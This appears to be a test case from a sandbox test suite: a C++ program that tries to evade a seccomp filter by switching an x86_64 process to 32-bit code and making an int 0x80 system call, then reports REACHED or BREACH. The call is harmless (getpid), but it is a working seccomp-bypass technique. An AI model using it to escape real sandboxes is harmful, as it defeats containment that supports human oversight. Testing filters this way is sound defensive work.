// attack: the filter, by switching the processor to 32-bit code
// wanted: RE
// after: nothing
// wall: seccomp (other architectures are killed)
// control: breach or absent
// machine: x86_64
#include <sys/mman.h>

#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>

int main() {
  std::puts("REACHED");
  std::fflush(stdout);
  std::signal(SIGSEGV, [](int) { std::_Exit(3); });
  // Code and stack below 4 GiB: mov eax, 20; int 0x80; back to the 64-bit segment.
  unsigned char code[] = {0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0xcb};
  void* low = mmap(nullptr, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  if (low == MAP_FAILED) return 3;
  std::memcpy(low, code, sizeof code);
  long result = 0;
  char* stack = static_cast<char*>(low) + 8000;
  asm volatile(
      "mov %%rsp, %%rbx\n"
      "mov %[stack], %%rsp\n"
      "lea 1f(%%rip), %%rcx\n"
      // A far return of 32-bit code needs a return address below 4 GiB: a stub there jumps on.
      "movl $0x33, 4(%%rsp)\n"
      "mov %[stub], %%eax\n"
      "mov %%eax, (%%rsp)\n"
      "sub $8, %%rsp\n"
      "movl $0x23, 4(%%rsp)\n"
      "mov %[low], %%eax\n"
      "mov %%eax, (%%rsp)\n"
      "mov %%rcx, %%rsi\n"
      "mov %%rbx, %%rdi\n"
      "lretl\n"
      "1:\n"
      "mov %%rdi, %%rsp\n"
      : "=&a"(result)
      : [stack] "r"(stack), [low] "r"(static_cast<unsigned>(reinterpret_cast<unsigned long>(low))),
        [stub] "r"(static_cast<unsigned>(reinterpret_cast<unsigned long>(std::memcpy(static_cast<char*>(low) + 64, "\xff\xe6", 2))))
      : "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory");
  if (static_cast<int>(result) > 0) {
    std::printf("BREACH: pid %ld\n", result);
    return 0;
  }
  return 3;
}
